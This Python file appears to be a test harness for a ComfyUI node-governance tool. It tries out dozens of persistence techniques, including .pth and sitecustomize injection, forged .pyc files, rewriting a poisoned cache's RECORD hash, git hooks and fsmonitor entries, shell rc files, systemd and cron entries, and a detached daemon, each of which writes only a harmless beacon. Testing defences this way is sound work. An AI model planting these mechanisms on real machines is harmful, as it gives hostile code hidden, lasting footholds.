"""Ways to be run again after one's own removal, each tried by itself.

A node calls it at its start, and a build (`tell`); it is run by path without any fence, too:
`remnants.py SCENE.json [NAME...]`.  What is planted appends its name to the beacon when it runs.
Only paths that the scene names are touched, so that an attempt which works harms nothing else.
"""

import importlib.util
import json
import marshal
import os
import signal
import struct
import subprocess
import sys
import time

ATTEMPTS = {}
DAEMON_SECONDS = 120


class Scene:
    """`facts`: comfyui, root, home, cache, tool, other, generations (name: path; prod, before),
    wheels, spare, spool, beacon, stop, user_site, uv, names."""

    def __init__(self, file):
        with open(file) as stream:
            self.facts = json.load(stream)

    def __getattr__(self, name):
        return self.facts[name]

    def packages(self, generation):
        lib = os.path.join(self.generations[generation], "lib")
        return os.path.join(lib, os.listdir(lib)[0], "site-packages")


class Planter:
    """What one attempt writes with: its payloads, and the paths that it got to."""

    def __init__(self, scene, name):
        self.scene, self.name = scene, name
        self.paths = []
        text = f"try:\n open({scene.beacon!r}, 'a').write({name + chr(10)!r})\nexcept OSError: pass"
        said = f"import sys; sys.stderr.write({self.said + chr(10)!r})"
        self.python = f"import os; exec({text + chr(10) + said!r})\n"
        quiet = f"{{ echo {name} >> '{scene.beacon}'; }} 2>/dev/null"
        self.shell = f"{quiet}; echo {self.said} >&2\n"

    @property
    def said(self):
        return f"BEACON:{self.name}:"

    def write(self, path, text, mode=0o644, how="w"):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        data = text if isinstance(text, bytes) else text.encode()
        with open(path, f"{how}b") as stream:
            stream.write(data)
        os.chmod(path, mode)
        self.paths.append(path)

    def append(self, path, text):
        """To a file of its own: what is hardlinked to it elsewhere stays as it is."""
        with open(path, "rb") as stream:
            before = stream.read()
        self.replace(path, before + b"\n" + text.encode())

    def replace(self, path, data):
        mode = os.stat(path).st_mode & 0o777
        self.write(path + ".new", data, mode)
        os.replace(self.paths.pop(), path)
        self.paths.append(path)

    def script(self, path):
        self.write(path, "#!/bin/sh\n" + self.shell, 0o755)
        return path

    def after_first_line(self, path, text):
        with open(path) as stream:
            first, *rest = stream.readlines()
        self.replace(path, "".join([first, text, *rest]).encode())

    def byte_code(self, source, target):
        """With the source's time and size, as Python believes it."""
        with open(source) as stream:
            text = stream.read()
        facts = os.stat(source)
        head = struct.pack("<III", 0, int(facts.st_mtime) & 0xFFFFFFFF, facts.st_size & 0xFFFFFFFF)
        code = compile(text + "\n" + self.python, source, "exec")
        self.write(target, importlib.util.MAGIC_NUMBER + head + marshal.dumps(code))

    def cached(self, source, prefix=""):
        name = os.path.basename(source).removesuffix(".py") + f".{sys.implementation.cache_tag}.pyc"
        if prefix:
            return os.path.join(prefix, os.path.dirname(source).lstrip("/"), name)
        return os.path.join(os.path.dirname(source), "__pycache__", name)

    def hooks(self, folder):
        for hook in ("post-checkout", "post-index-change", "reference-transaction", "post-commit"):
            self.script(os.path.join(folder, hook))

    def node(self, path):
        self.write(path, self.python + "NODE_CLASS_MAPPINGS = {}\n")

    def source_package(self, folder):
        """A newer cowsay that exists as source, whose build runs the payload."""
        self.write(os.path.join(folder, ".made"), "")
        subprocess.run(["cp", "-R", self.scene.spare, folder], check=True)
        unpacked = os.path.join(folder, os.path.basename(self.scene.spare))
        backend = os.path.join(unpacked, "backend.py")
        with open(backend) as stream:
            text = stream.read()
        self.write(backend, self.python + text)
        name = os.path.basename(unpacked)
        archive = os.path.join(folder, f"{name}.tar.gz")
        subprocess.run(["tar", "-C", folder, "-czf", archive, name], check=True)
        subprocess.run(["rm", "-r", unpacked], check=True)
        self.paths.clear()
        return folder


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


# --- environments -----------------------------------------------------------------------------


@attempt
def byte_code_in_prod(s, p):
    source = os.path.join(s.packages("prod"), "numpy/__init__.py")
    p.byte_code(source, p.cached(source))


@attempt
def byte_code_in_generation_before(s, p):
    source = os.path.join(s.packages("before"), "numpy/__init__.py")
    p.byte_code(source, p.cached(source))


@attempt
def byte_code_that_gov_keeps(s, p):
    """Where `gov run` takes the byte code of its start from."""
    source = os.path.join(s.packages("before"), "numpy/__init__.py")
    p.byte_code(source, p.cached(source, s.generations["before"] + ".d/pycache"))


@attempt
def byte_code_of_the_run(s, p):
    """Where this start itself keeps it: open to it, and perhaps read by the next."""
    source = os.path.join(s.packages("before"), "numpy/__init__.py")
    prefix = sys.pycache_prefix or os.path.join(s.root, "state/run-pycache")
    p.byte_code(source, p.cached(source, prefix))


@attempt
def pth_in_prod(s, p):
    p.write(os.path.join(s.packages("prod"), "evil.pth"), p.python)


@attempt
def pth_in_generation_before(s, p):
    p.write(os.path.join(s.packages("before"), "evil.pth"), p.python)


@attempt
def sitecustomize_in_generation_before(s, p):
    p.write(os.path.join(s.packages("before"), "sitecustomize.py"), p.python)


@attempt
def module_of_generation_before(s, p):
    p.append(os.path.join(s.packages("before"), "yaml/__init__.py"), p.python)


@attempt
def package_in_cache(s, p):
    """A file of a package in uv's cache, with the line of its RECORD."""
    import base64
    import hashlib

    archives = os.path.join(s.cache, "archive-v0")
    for name in os.listdir(archives):
        module = os.path.join(archives, name, "cowsay/__init__.py")
        if not os.path.exists(module):
            continue
        p.append(module, p.python)
        with open(module, "rb") as stream:
            data = stream.read()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        (info,) = [n for n in os.listdir(f"{archives}/{name}") if n.endswith(".dist-info")]
        record = os.path.join(archives, name, info, "RECORD")
        with open(record) as stream:
            lines = stream.readlines()
        mine = f"cowsay/__init__.py,sha256={digest},{len(data)}\n"
        lines = [mine if line.startswith("cowsay/__init__.py,") else line for line in lines]
        p.replace(record, "".join(lines).encode())
        p.paths.pop()
    if not p.paths:
        raise FileNotFoundError("cowsay is not in the cache")


@attempt
def package_installed_at_start(s, p):
    """Into the environment that it runs in, with a .pth of its own."""
    wheel = os.path.join(s.wheels, "evil-1.0-py3-none-any.whl")
    pip = [sys.executable, "-m", "pip", "install", "--no-index", wheel]
    uv = [s.uv, "pip", "install", "--offline", "--python", sys.executable, wheel]
    done = subprocess.run(pip, capture_output=True, text=True)
    if done.returncode:
        done = subprocess.run(uv, capture_output=True, text=True)
    if done.returncode:
        raise OSError(done.stderr.strip().splitlines()[-1])
    p.paths.append(os.path.join(s.packages("prod"), "evil-package.pth"))


# --- code of others ---------------------------------------------------------------------------


@attempt
def line_in_another_node(s, p):
    p.append(os.path.join(s.other, "__init__.py"), p.python)


@attempt
def start_script_of_another_node(s, p):
    p.write(os.path.join(s.other, "prestartup_script.py"), p.python)


@attempt
def byte_code_of_another_node(s, p):
    source = os.path.join(s.other, "__init__.py")
    p.byte_code(source, p.cached(source))


@attempt
def new_single_file_node(s, p):
    p.node(os.path.join(s.comfyui, "custom_nodes/zz_evil.py"))


@attempt
def new_node_folder(s, p):
    p.node(os.path.join(s.comfyui, "custom_nodes/zz_evil/__init__.py"))


@attempt
def link_to_a_node_elsewhere(s, p):
    target = os.path.join(s.home, ".cache/evil")
    p.node(os.path.join(target, "__init__.py"))
    link = os.path.join(s.comfyui, "custom_nodes/zz_linked")
    os.symlink(target, link)
    p.paths = [os.path.join(link, "__init__.py"), link]


@attempt
def comfyui_main(s, p):
    p.after_first_line(os.path.join(s.comfyui, "main.py"), p.python)


@attempt
def comfyui_module(s, p):
    p.append(os.path.join(s.comfyui, "folder_paths.py"), p.python)


@attempt
def byte_code_of_comfyui(s, p):
    source = os.path.join(s.comfyui, "folder_paths.py")
    p.byte_code(source, p.cached(source))


@attempt
def module_beside_comfyui(s, p):
    """Found before the library of that name, since ComfyUI's folder comes first."""
    p.write(os.path.join(s.comfyui, "logging.py"), _SHADOW.format(payload=p.python))


_SHADOW = """\
{payload}
import os, sys
here = sys.path.pop(0)
del sys.modules["logging"]
import logging
sys.path.insert(0, here)
"""


@attempt
def extra_model_paths(s, p):
    folder = os.path.join(s.home, ".cache/more_nodes")
    p.node(os.path.join(folder, "zz_elsewhere/__init__.py"))
    text = f"more:\n  base_path: {folder}\n  custom_nodes: {folder}\n"
    p.write(os.path.join(s.comfyui, "extra_model_paths.yaml"), text)


# --- git --------------------------------------------------------------------------------------


@attempt
def hooks_of_comfyui(s, p):
    p.hooks(os.path.join(s.comfyui, ".git/hooks"))


@attempt
def fsmonitor_of_comfyui(s, p):
    script = p.script(os.path.join(s.comfyui, ".git/monitor"))
    p.append(os.path.join(s.comfyui, ".git/config"), f"[core]\n\tfsmonitor = {script}\n")


@attempt
def hooks_of_another_clone(s, p):
    p.hooks(os.path.join(s.other, ".git/hooks"))


@attempt
def hooks_path_of_another_clone(s, p):
    folder = os.path.join(s.other, ".git/more")
    p.hooks(folder)
    p.append(os.path.join(s.other, ".git/config"), f"[core]\n\thooksPath = {folder}\n")


@attempt
def fsmonitor_of_another_clone(s, p):
    script = p.script(os.path.join(s.other, ".git/monitor"))
    p.append(os.path.join(s.other, ".git/config"), f"[core]\n\tfsmonitor = {script}\n")


@attempt
def hooks_of_the_code_store(s, p):
    for name in os.listdir(os.path.join(s.root, ".code")):
        p.hooks(os.path.join(s.root, ".code", name, "hooks"))


# --- gov's own --------------------------------------------------------------------------------


@attempt
def launcher_of_the_workspace(s, p):
    p.after_first_line(os.path.join(s.root, "bin/gov"), p.shell)


@attempt
def dodo_of_the_workspace(s, p):
    p.after_first_line(os.path.join(s.root, "dodo.py"), p.python)


@attempt
def smoke_test_in_config(s, p):
    """A command that gov itself starts, at the next trial."""
    script = p.script(os.path.join(s.root, "smoke"))
    with open(os.path.join(s.root, "config.toml")) as stream:
        lines = stream.readlines()
    mine = f'smoke_test_cmd = "{script}"\n'
    lines = [mine if line.startswith("smoke_test_cmd") else line for line in lines]
    p.replace(os.path.join(s.root, "config.toml"), "".join(lines).encode())


@attempt
def record_of_a_node(s, p):
    """The registry says that a node of ours is promoted."""
    path = os.path.join(s.root, "state/plugins.json")
    with open(path) as stream:
        document = json.load(stream)
    rows = document if isinstance(document, list) else document["plugins"]
    mine = next(row for row in rows if row["id"] == os.path.basename(s.other))
    rows.append({**mine, "id": "zz_record", "kind": "folder"})
    p.replace(path, json.dumps(document).encode())
    p.node(os.path.join(s.comfyui, "custom_nodes/zz_record/__init__.py"))


@attempt
def code_of_gov(s, p):
    p.append(os.path.join(s.tool, "governance/__init__.py"), p.python)


@attempt
def pth_of_gov(s, p):
    lib = os.path.join(s.tool, ".venv/lib")
    path = os.path.join(lib, os.listdir(lib)[0], "site-packages/evil.pth")
    p.write(path, p.python)


# --- the home and the machine -----------------------------------------------------------------


@attempt
def usercustomize(s, p):
    p.write(os.path.join(s.user_site, "usercustomize.py"), p.python)


@attempt
def pth_in_user_site(s, p):
    p.write(os.path.join(s.user_site, "evil.pth"), p.python)


@attempt
def gitconfig(s, p):
    script = p.script(os.path.join(s.home, ".cache/evil-monitor"))
    p.write(os.path.join(s.home, ".gitconfig"), f"[core]\n\tfsmonitor = {script}\n", how="a")


@attempt
def git_config_of_xdg(s, p):
    folder = os.path.join(s.home, ".config/git/hooks")
    p.hooks(folder)
    text = f"[core]\n\thooksPath = {folder}\n"
    p.write(os.path.join(s.home, ".config/git/config"), text, how="a")


@attempt
def uv_toml(s, p):
    folder = p.source_package(os.path.join(s.home, ".cache/uv-evil"))
    p.write(os.path.join(s.home, ".config/uv/uv.toml"), f'find-links = ["{folder}"]\n')


@attempt
def pip_conf(s, p):
    folder = p.source_package(os.path.join(s.home, ".cache/pip-evil"))
    p.write(os.path.join(s.home, ".config/pip/pip.conf"), f"[global]\nfind-links = {folder}\n")


@attempt
def bashrc(s, p):
    p.write(os.path.join(s.home, ".bashrc"), p.shell, how="a")


@attempt
def profile(s, p):
    p.write(os.path.join(s.home, ".profile"), p.shell, how="a")


@attempt
def bash_profile(s, p):
    """Of the three it comes first, so a new one is read in the place of ~/.profile."""
    p.write(os.path.join(s.home, ".bash_profile"), p.shell + ". ~/.profile\n", how="a")


@attempt
def autostart(s, p):
    script = p.script(os.path.join(s.home, ".cache/evil-desktop"))
    text = f"[Desktop Entry]\nType=Application\nName=x\nExec={script}\n"
    p.write(os.path.join(s.home, ".config/autostart/x.desktop"), text)


@attempt
def systemd_user_unit(s, p):
    script = p.script(os.path.join(s.home, ".cache/evil-unit"))
    folder = os.path.join(s.home, ".config/systemd/user/default.target.wants")
    p.write(os.path.join(folder, "x.service"), f"[Service]\nExecStart={script}\n")


@attempt
def crontab(s, p):
    """As crontab(1) of root does it."""
    if not s.spool:
        raise FileNotFoundError("no spool of cron's that the harness may write")
    script = p.script(os.path.join(s.home, ".cache/evil-cron"))
    p.write(s.spool, f"* * * * * {script}\n", 0o600)


@attempt
def daemon(s, p):
    """Two forks and a session of its own."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    null = os.open("/dev/null", os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    until = time.monotonic() + DAEMON_SECONDS
    while time.monotonic() < until and not os.path.exists(s.stop):
        try:
            with open(s.beacon, "a") as stream:
                stream.write(f"{p.name}\n")
        except OSError:
            pass
        time.sleep(0.2)
    os._exit(0)


# --- all of them ------------------------------------------------------------------------------


def make(scene, names):
    """{name: {error, paths}}; error is null where all was written."""
    made = {}
    for name in names or ATTEMPTS:
        planter, error = Planter(scene, name), None
        try:
            ATTEMPTS[name](scene, planter)
        except Exception as problem:
            error = f"{type(problem).__name__}: {problem}"
        made[name] = {"error": error, "paths": planter.paths}
    return made


def tell(file):
    """Once there is a scene, attempt what it names; what became of it, as a line."""
    if not os.path.exists(file):
        return ""
    scene = Scene(file)
    return "REMNANTS " + json.dumps(make(scene, scene.names))


if __name__ == "__main__":
    print("REMNANTS " + json.dumps(make(Scene(sys.argv[1]), sys.argv[2:])))
